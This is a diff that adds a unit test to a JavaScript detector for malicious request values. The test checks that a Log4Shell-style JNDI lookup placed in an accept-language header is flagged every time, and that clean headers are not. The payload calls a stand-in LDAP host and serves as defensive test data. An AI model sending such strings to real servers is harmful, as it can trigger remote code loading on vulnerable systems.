@@ -156,6 +156,16 @@ describe('values that repeat across requests', () => {
     assert.deepEqual(detector.detect({ path: '/items/1', headers: { 'x-trace': 'v1', cookie: 'sid=1' } }), []);
   });
 
+  it('in fixed-grammar headers do not hide a payload that replaces a clean value', () => {
+    const detector = createDetector();
+    const clean = { headers: { accept: 'text/html', 'accept-language': 'en-US,en;q=0.9' } };
+    const jndi = { headers: { accept: 'text/html', 'accept-language': '${jndi:ldap://203.0.113.7/a}' } };
+    assert.deepEqual(detector.detect(clean), []);
+    assert.deepEqual(shape(detector.detect(jndi)), ['jndi@header.accept-language']);
+    assert.deepEqual(detector.detect(clean), []);
+    assert.deepEqual(shape(detector.detect(jndi)), ['jndi@header.accept-language']);
+  });
+
   it('in a query string are placed at the parameter that carries them this time', () => {
     const detector = createDetector();
     const value = encodeURIComponent(SQLI);
